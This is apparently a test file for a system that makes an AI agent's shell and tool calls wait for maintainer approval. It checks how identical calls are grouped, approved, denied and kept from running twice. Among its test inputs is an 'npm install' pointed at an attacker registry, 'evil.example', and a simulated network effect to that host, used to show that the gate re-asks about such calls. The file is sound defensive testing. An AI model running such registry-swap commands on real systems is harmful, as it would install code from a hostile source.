import { join } from 'node:path';
import { describe, expect, it, test } from 'vitest';
import { assumedWalls, type EntryOf, type JsonObject, sha256 } from '../../src/core/index.ts';
import { eventsOf } from '../../src/journal/events.ts';
import { parseEntries } from '../../src/journal/index.ts';
import { groupedAlike } from '../../src/run/ask/alike.ts';
import { judgeTool } from '../gate/support.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { agentRequest, Killed, maintainer, type Turn, World } from '../support/world.ts';

function asked(name: string, args: JsonObject, again = false): Parameters<typeof groupedAlike>[0][number] {
	const judged = judgeTool(name, args, { mode: 'contained', walls: assumedWalls });
	expect(judged.decision).toBe('confirm');
	const verdict: EntryOf<'tool_attempt'> = {
		...{ type: 'tool_attempt', call_id: 'c', tool_name: name, tool_input: args, classification: judged.rule },
		...{ risk_level: judged.risk, decision: judged.decision, matched_rule: judged.rule, reason: judged.reason },
		...{ effects: judged.effects, matches: judged.matches, binding: sha256('x'), session_mode: 'contained' },
		...(judged.asks && { asks: judged.asks }),
	};
	const evidence = { scripts: [], declared: [] };
	return { id: 'A1', call: { id: 'c', name, args }, verdict, again, needs: [], evidence };
}

const shell = (command: string, more: JsonObject = {}) => asked('shell_exec', { command, ...more });

describe('one answer covers calls whose differences do not matter', () => {
	it.each([
		['npm ci', 'npm ci'],
		['npm ci', '  npm   ci '],
		['npm install', 'npm install --no-audit'],
		['npm install --no-fund --quiet', 'npm install --no-audit'],
		['pip install -r requirements.txt', 'pip install -r requirements.txt --quiet'],
		['curl "https://a.example/x  y"', 'curl "https://a.example/x  y"'],
	])('such as %j and %j', (one, other) => {
		expect(groupedAlike([shell(one), shell(other)])).toHaveLength(1);
	});

	it.each([
		['npm install', 'npm install left-pad'],
		['npm install', 'npm install --ignore-scripts=false'],
		['npm install left-pad', 'npm install right-pad'],
		['npm install', 'npm ci'],
		['npm install', 'npm install --registry=https://evil.example'],
		['curl "https://a.example/x  y"', 'curl "https://a.example/x y"'],
		['curl https://a.example', 'curl https://b.example'],
		['curl https://a.example --quiet', 'curl https://a.example'],
		['npm ci', 'npm ci; npm ci'],
		['npm ci\n', 'npm ci'],
	])('but not %j and %j', (one, other) => {
		expect(groupedAlike([shell(one), shell(other)])).toHaveLength(2);
	});

	it('but not calls with other arguments, or calls that began before', () => {
		expect(groupedAlike([shell('npm ci'), shell('npm ci', { cwd: 'a' })])).toHaveLength(2);
		const again = asked('shell_exec', { command: 'npm ci' }, true);
		expect(groupedAlike([again, again])).toHaveLength(2);
	});

	it('but not calls that need other signers, execute other files, or change a file', () => {
		const one = shell('npm ci');
		const needs = [{ count: 2, who: { roles: ['write'] }, why: '' }];
		const executes = [{ path: 'a', hash: null }];
		const rewrites = { sha256: 'x', path: 'a', change: undefined } as never;
		expect(groupedAlike([one, { ...one, needs }])).toHaveLength(2);
		expect(groupedAlike([one, { ...one, verdict: { ...one.verdict, executes } }])).toHaveLength(2);
		const change = { ...one, evidence: { ...one.evidence, rewrites } };
		expect(groupedAlike([change, change])).toHaveLength(2);
	});
});

const danger = (text: string) => ({ tool: 'danger', args: { text } });
const twice: readonly Turn[] = [{ calls: [danger('x'), danger('x'), danger('y')] }, { text: 'Done.' }];

async function waiting(folder: string, turns = twice): Promise<World> {
	const world = new World(join(folder, 'job'), turns);
	expect(await world.job('comment/1', agentRequest())).toMatchObject({ kind: 'waiting' });
	return world;
}

const requestIn = (world: World) =>
	world.comments.findLast(({ body }) => /needs? your approval/.test(body))?.body ?? '';

test('two equal calls are one item of the request with one id', async () => {
	using folder = temporaryFolder();
	const world = await waiting(folder.path);
	expect(requestIn(world)).toContain('### ✍️ 2 steps need your approval');
	expect(requestIn(world).match(/^#### A\d+/gm)).toEqual(['#### A1', '#### A2']);
	expect(requestIn(world)).toContain('**Your answer is for 2 calls.** If you approve, each of these calls runs once.');
	expect(requestIn(world).match(/^<sub>(?:An|The same) approval is [^`]*`[0-9a-f]{16}`/gm)).toHaveLength(3);
	const { checkpoint } = world.checkpoints.get('1-r') ?? expect.fail('nothing was saved');
	expect(parseEntries(checkpoint.journal).flatMap(eventsOf)).toContainEqual(
		expect.objectContaining({ name: 'approval.requested', ids: ['A1', 'A2'] }),
	);
	world.say(maintainer, '/approve A1');
	expect(await world.job('comment/2')).toMatchObject({ message: "Waiting for a maintainer's answer to A2." });
	expect(Object.fromEntries(world.effects)).toEqual({ 'danger x': 2 });
	expect([...world.claims.keys()].filter((key) => key.startsWith('call/'))).toEqual(['call/1-r/A1', 'call/1-r/A1.2']);
});

test('an answer without an id covers equal calls if nothing else waits', async () => {
	using folder = temporaryFolder();
	const world = await waiting(folder.path, [{ calls: [danger('x'), danger('x')] }, { text: 'Done.' }]);
	world.say(maintainer, '/approve');
	expect(await world.job('comment/2')).toMatchObject({ kind: 'completed' });
	expect(world.effects.get('danger x')).toBe(2);
});

test('each of two required signers approves two equal calls with one answer', async () => {
	using folder = temporaryFolder();
	const world = new World(join(folder.path, 'job'), twice);
	const second = { id: 8, login: 'second', type: 'User' };
	world.rights.set(second.id, { role: 'write', mayWrite: true });
	world.approvals = {
		...{ roles: ['write'], people: [], teams: [], notRequester: false, signatures: 2, critical: 2 },
		...{ codeowners: false, requireIds: false },
	};
	await world.job('comment/1', agentRequest());
	world.say(maintainer, '/approve A1');
	expect(await world.job('comment/2')).toMatchObject({ kind: 'waiting' });
	expect(world.effects.size).toBe(0);
	world.say(second, '/approve A1');
	await world.job('comment/3');
	expect(world.effects.get('danger x')).toBe(2);
});

test('a denial covers all equal calls, and after the first it stops the second', async () => {
	using folder = temporaryFolder();
	const denied = await waiting(folder.path);
	denied.say(maintainer, '/deny A1 no');
	await denied.job('comment/2');
	expect(denied.effects.size).toBe(0);
	using other = temporaryFolder();
	const world = await waiting(other.path);
	world.say(maintainer, '/approve A1');
	world.onMoment = (name) => {
		if (name === 'after tool danger' && world.comments.every(({ body }) => body !== '/deny A1 enough'))
			world.say(maintainer, '/deny A1 enough');
	};
	await world.job('comment/2');
	expect(Object.fromEntries(world.effects)).toEqual({ 'danger x': 1 });
});

test('an equal call whose verdict changed since the request is asked about again alone', async () => {
	using folder = temporaryFolder();
	const world = await waiting(folder.path);
	world.say(maintainer, '/approve A1');
	const { gate } = world;
	world.gate = {
		judge: (call, context) => {
			const verdict = gate.judge(call, context);
			const isLater = world.effects.get('danger x') === 1;
			return isLater ? { ...verdict, effects: [{ kind: 'network', host: 'evil.example' }] } : verdict;
		},
	};
	expect(await world.job('comment/2')).toMatchObject({ kind: 'waiting', message: expect.stringContaining('A3') });
	expect(Object.fromEntries(world.effects)).toEqual({ 'danger x': 1 });
	expect(requestIn(world)).toContain('evil.example');
	// The request shows the results of the first and the second call separately.
	world.say(maintainer, '/deny A2 A3 no');
	await world.job('comment/3');
	const decided = world.comments.find(({ body }) => body.includes('Your answer is for'))?.body;
	expect(decided).toMatch(/^\| A1 \| ✅ approved by `@maintainer`.* \| done \|$/m);
	expect(decided).toMatch(/^\| A1 \| ↩️ What would run is not what was shown.* \| asked anew as A3 \|$/m);
});

test('a job that dies at any moment runs no equal call twice on one answer', async () => {
	for (let at = 1, moments = at; at <= moments; at++) {
		using folder = temporaryFolder();
		const world = await waiting(folder.path);
		world.say(maintainer, '/approve A1');
		let count = 0;
		world.onMoment = () => {
			count += 1;
			if (count === at) throw new Killed();
		};
		await world.job('comment/2').catch(() => undefined);
		moments = Math.max(moments, count + 1);
		if (count < at) break;
		world.onMoment = () => undefined;
		if (at % 2 === 0) world.loseDisk();
		await world.job('comment/2');
		await world.job('comment/3');
		expect(world.effects.get('danger x') ?? 0, `killed at moment ${at}`).toBeLessThanOrEqual(2);
	}
});
